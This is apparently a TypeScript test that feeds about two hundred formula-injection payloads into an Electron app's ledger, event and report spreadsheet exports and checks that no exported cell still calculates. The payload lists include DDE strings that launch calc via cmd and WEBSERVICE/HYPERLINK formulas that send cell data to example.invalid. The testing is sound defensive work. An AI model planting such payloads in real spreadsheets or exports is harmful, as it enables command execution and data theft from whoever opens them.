import fs from "node:fs";
import path from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { reportWorkbook } from "#electron/spreadsheet/report-workbook";
import { workbookBytes } from "#electron/spreadsheet/write-workbook";
import { exportEvents } from "#electron/use-cases/event/export-events";
import { addLedgerEntry } from "#electron/use-cases/ledger/add-ledger-entry";
import { ledgerToFile } from "#electron/use-cases/ledger/ledger-to-file";
import { planReport } from "#electron/use-cases/report/plan-report";
import { ASSESSMENT_REPORTS } from "#shared/documents/reports/papers/assessment-paper";
import { FIGURE_REPORTS } from "#shared/documents/reports/papers/report-snapshot";
import type { ReportPaper } from "#shared/documents/reports/report-paper";
import { textIn } from "#shared/text/text";
import { accepted, type DeskFixture, EXAMPLE_CARD } from "#test/builders/desk-fixture";
import { type TortureRow, tortured } from "./torture-row";

/** What a formula begins with, and what may stand before it. */
const BEGINS = [
  ..."=+-@＝＋－＠",
  "\t",
  "\r",
  "\n",
  " =",
  "　＝",
  "\u00a0+",
  "\u200b=",
  "\ufeff@",
  "\u0001=",
  "\t=",
  "\r\n=",
  "==",
];
const BODIES = [
  "1+1",
  'HYPERLINK("http://example.invalid/","看")',
  "cmd|' /C calc'!A0",
  "SUM(A1:A99)",
  'WEBSERVICE("http://example.invalid/?"&A1)',
  "2+5+cmd|'/c calc'!A0",
  '"&A1&"',
  ",=1+1",
  ";=1+1",
  '"\n=1+1,"',
];

/** Two hundred payloads, each beginning with each body. */
const PAYLOADS = BEGINS.flatMap((begins) => BODIES.map((body) => begins + body));

/** By this file's own rule, not the program's: what stands first once blanks and what is invisible are gone. */
function isFormula(text: string): boolean {
  return (
    /^[\t\r\n]/.test(text) || "=+-@＝＋－＠".includes(text.replace(/^[\s\p{C}]+/u, "").slice(0, 1) || "x")
  );
}

/** Cells of a CSV file as a spreadsheet reads it (RFC 4180). */
function csvCells(text: string): readonly string[] {
  const cells = text.replace(/^\ufeff/, "").match(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/g) ?? [];
  return cells.map((found) => {
    const cell = found.replace(/(,|\r\n)$/, "");
    return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  });
}

const ENTITIES: Readonly<Record<string, string>> = { "&lt;": "<", "&gt;": ">", "&quot;": '"', "&amp;": "&" };

/** How many cells of a workbook could be calculated: formulas, and texts that are not marked as texts for good. */
function formulasIn(bytes: Uint8Array): number {
  const parts = unzipSync(bytes);
  const styles = strFromU8(parts["xl/styles.xml"] ?? new Uint8Array());
  const formats = /<cellXfs[^>]*>(.*)<\/cellXfs>/s.exec(styles)?.[1]?.match(/<xf [^>]*>/g) ?? [];
  const isMarked = (style: string) => formats[Number(style)]?.includes('quotePrefix="1"') === true;
  return Object.entries(parts)
    .filter(([name]) => name.startsWith("xl/worksheets/"))
    .reduce((found, [, part]) => {
      const xml = strFromU8(part);
      const texts = [...xml.matchAll(/<c r="[A-Z]+\d+" s="(\d+)" t="inlineStr"><is><t[^>]*>(.*?)<\/t>/gs)];
      const unmarked = texts.filter(
        ([, style = "", text = ""]) =>
          isFormula(text.replace(/&(?:lt|gt|quot|amp);/g, (entity) => ENTITIES[entity] ?? entity)) &&
          !isMarked(style),
      );
      const others = xml.replaceAll(
        /<c r="[A-Z]+\d+" s="\d+"(?: t="inlineStr"><is><t[^>]*>.*?<\/t><\/is>|><v>[-\d.e+]+<\/v>)<\/c>/gs,
        "",
      );
      return found + unmarked.length + (others.match(/<f[\s>/]|<c /g)?.length ?? 0);
    }, 0);
}

/** Members of a paper that name a kind and say nothing. */
const CODES: ReadonlySet<string> = new Set(["kind", "align", "format", "axisSide", "shades", "id", "day"]);

/** A report whose every word is the payload, whatever column it stands in; `count` learns how many there are. */
function spoken<Value>(value: Value, payload: string, count: () => void, name = ""): Value {
  if (CODES.has(name)) return value;
  if (typeof value === "string") {
    count();
    return payload as Value;
  }
  if (Array.isArray(value)) return value.map((item) => spoken(item, payload, count, name)) as Value;
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, spoken(item, payload, count, key)]),
  ) as Value;
}

/** Cards and entries of the ledger with the payload in every field that takes words. */
function fillWith({ desk, as, create }: DeskFixture, payloads: readonly string[]): void {
  for (const [n, payload] of payloads.entries()) {
    const line = payload.replaceAll(/\p{Cc}/gu, "");
    const shown = { customer_name: line, contact: line, address: line, model: line, order_no: line };
    const said = { description: payload, customer_words: payload, expectation: payload, tried: payload };
    create("clerk1", { ...EXAMPLE_CARD, ...shown, ...said, serial_no: `SN${n}`, error_code: line });
    const words = { problem: payload, cause: payload, measure: payload, result: payload };
    accepted(addLedgerEntry(desk, as("clerk1"), { source: n % 2 === 0 ? "manual" : "suggestion", ...words }));
  }
}

/** Every file that leaves the program with cells in it, filled by the use-cases; answers the cells that calculate. */
async function filesOut({ desk, as, folder }: DeskFixture): Promise<number> {
  const file = (name: string) => path.join(folder, name);
  let found = 0;
  accepted(await ledgerToFile(desk, as("sup1"), {}, file("ledger.xlsx")));
  found += formulasIn(fs.readFileSync(file("ledger.xlsx")));
  for (const masked of [false, true]) {
    accepted(exportEvents(desk, as("sup1"), { file: file("events.xlsx"), masked }));
    accepted(exportEvents(desk, as("sup1"), { file: file("events.csv"), masked }));
    found += formulasIn(fs.readFileSync(file("events.xlsx")));
    found += csvCells(fs.readFileSync(file("events.csv"), "utf8")).filter(isFormula).length;
  }
  return found;
}

function papersOf({ desk, as }: DeskFixture): readonly ReportPaper[] {
  const reports = [...FIGURE_REPORTS, ...ASSESSMENT_REPORTS];
  return reports.map((report) => {
    const period = report === "weekly_analysis" ? "2026-W47" : "2026-11";
    return accepted(planReport(desk, as("sup1"), { report, period })).paper;
  });
}

/**
 * Texts that a spreadsheet could calculate, in every column that goes out (SAFETY 1): the events and the ledger
 * through their use-cases, and each report with the payload for each of its words. Read back, no cell is a formula,
 * and each that looks like one is marked as text. Tries are payloads; lost are cells that would calculate.
 */
export function spreadsheetFormulas(fixture: DeskFixture, count: number): Promise<TortureRow> {
  return tortured("formulas in every column of spreadsheets", async () => {
    const payloads = PAYLOADS.filter((_, index) => (index * count) % PAYLOADS.length < count);
    fillWith(fixture, payloads);
    let lost = await filesOut(fixture);
    let corrupt = 0;
    for (const paper of papersOf(fixture)) {
      lost += formulasIn(workbookBytes(reportWorkbook(paper, 0, textIn("zh"))));
      for (const payload of payloads) {
        let words = 0;
        const told = spoken(paper, payload, () => {
          words += 1;
        });
        lost += formulasIn(workbookBytes(reportWorkbook({ ...told, zone: paper.zone }, 0, textIn("zh"))));
        if (words < 10) corrupt += 1;
      }
    }
    return { tries: payloads.length, lost, corrupt };
  });
}
